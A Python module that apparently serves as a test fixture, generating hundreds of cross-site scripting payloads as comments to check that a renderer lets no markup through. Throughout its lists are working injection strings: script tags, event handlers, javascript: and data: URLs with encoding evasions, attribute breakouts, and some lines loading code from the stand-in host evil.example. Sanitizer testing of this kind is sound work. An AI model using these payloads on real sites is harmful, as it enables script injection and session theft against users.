"""Comments that would do harm where markup gets through: made of techniques, so that each tries another way in.

Whatever runs would call `alert`, or ask `evil.example` for something; whatever gets through unchanged shows as an element or
attribute that comments cannot have.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product

MARK = "alert(1)"
EVIL = "//evil.example/x"

ELEMENTS = [
    "<script>{0}</script>", "<script src={1}></script>", "<ScRiPt>{0}</sCrIpT>", "<script\n>{0}</script\n>", "<script/x>{0}</script>",
    "<script>{0}//<b>", "<svg><script>{0}</script></svg>", "<svg onload={0}>", "<svg/onload={0}//", "<math><mi xlink:href='data:x,<script>{0}</script>'>",
    "<img src=x onerror={0}>", "<img/src/onerror={0}>", "<img src={1}>", "<image src={1} onerror={0}>", "<img srcset='{1} 1x'>",
    "<iframe src=javascript:{0}></iframe>", "<iframe srcdoc='<script>{0}</script>'>", "<object data={1}></object>", "<embed src={1}>",
    "<video><source onerror={0}></video>", "<audio src=x onerror={0}>", "<body onload={0}>", "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>", "<details open ontoggle={0}>x</details>",
    "<marquee onstart={0}>x</marquee>", "<form action=javascript:{0}><button>x</button></form>", "<button formaction=javascript:{0}>x</button>",
    "<a href=javascript:{0}>x</a>", "<a href='{1}' onclick={0}>x</a>", "<link rel=stylesheet href={1}>", "<style>@import '{1}';</style>",
    "<style>*{{background:url({1})}}</style>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<base href={1}>",
    "<template><script>{0}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<xmp><img src=x onerror={0}></xmp>",
    "<plaintext>{0}", "<table background={1}><tr><td>x</table>", "<div style='background:url({1})'>x</div>", "<p id=x onmouseover={0} style=position:fixed>x",
    "<!--><img src=x onerror={0}>-->", "<![CDATA[><img src=x onerror={0}>]]>", "<?xml version='1'?><img src=x onerror={0}>",
    "</p><script>{0}</script><p>", "</div></li></ol><script>{0}</script>", "</textarea><script>{0}</script>", "</title><script>{0}</script>",
    "</script><script>{0}</script>", "<custom-element onclick={0}>x</custom-element>", "<a id=x tabindex=1 onfocus={0}>x</a>", "<dialog open onclose={0}>",
]
ADDRESSES = [
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java&#10;script:{0}", " javascript:{0}", "&#106;avascript:{0}", "&#x6A;avascript:{0}",
    "javascript&colon;{0}", "javascript&#58;{0}", "\u0001javascript:{0}", "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{0}", "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "https:evil", "http:javascript:{0}", "blob:https://evil.example/x",
    "view-source:javascript:{0}", "javascript://%0a{0}", "feed:javascript:{0}", "ftp://evil.example/", "/publisher", "?delete=1", "#x", "mailto:x@evil.example",
]
LINKS = ["[x]({0})", "[x](<{0}>)", "<{0}>", "![x]({0})", "[x][r]\n\n[r]: {0}", '[x]({0} "t")', "[![i]({0})]({0})"]
BREAKOUTS = [
    '" onmouseover="{0}', "' onmouseover='{0}", '"><img src=x onerror={0}>', "'><script>{0}</script>", '" autofocus onfocus="{0}" x="', "\\\" onload=\\\"{0}",
]
CARRIERS = [
    "[x](https://safe.example/{0})", '[x](https://safe.example "{0}")', "![{0}](https://safe.example/i.png)", "`{0}`", "**{0}**", "> {0}", "- {0}", "```{0}\n{0}\n```",
    "[{0}](https://safe.example)", "# {0}", "1. {0}", "    {0}",
]
STRANGE = [
    "\u202e<script>{0}</script>", "\u2028<script>{0}</script>", "\ufeff<script>{0}</script>", "＜script＞{0}＜/script＞", "<\u200bscript>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "&amp;lt;script&amp;gt;{0}", "%3Cscript%3E{0}%3C/script%3E", "+ADw-script+AD4-{0}",
    "\\<script>{0}\\</script>", "<scr<script>ipt>{0}</scr</script>ipt>", "<<script>script>{0}<</script>/script>", "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}", "<%= {0} %>", "<#if x>{0}", "[[x|{0}]]", "<img src=`x` onerror=`{0}`>", "&NewLine;<script>{0}</script>", "<a\u00a0href=javascript:{0}>x</a>",
    "<svg\u000conload={0}>", "<img src='x'\u000bonerror={0}>",
]


def cases() -> Iterator[str]:
    """Each a comment of its own."""
    seen: set[str] = set()
    for case in (*elements(), *addresses(), *breakouts(), *strange()):
        if case not in seen:
            seen.add(case)
            yield case


def elements() -> Iterator[str]:
    for template in ELEMENTS:
        plain = template.format(MARK, EVIL)
        yield plain
        yield f"Words before.\n\n{plain}\n\nWords after."
        yield escape(plain)


def addresses() -> Iterator[str]:
    for address, link in product(ADDRESSES, LINKS):
        yield link.format(address.format(MARK))


def breakouts() -> Iterator[str]:
    for breakout, carrier in product(BREAKOUTS, CARRIERS):
        yield carrier.format(breakout.format(MARK))


def strange() -> Iterator[str]:
    for template in STRANGE:
        yield template.format(MARK)
        yield f"[{template.format(MARK)}](https://safe.example)"
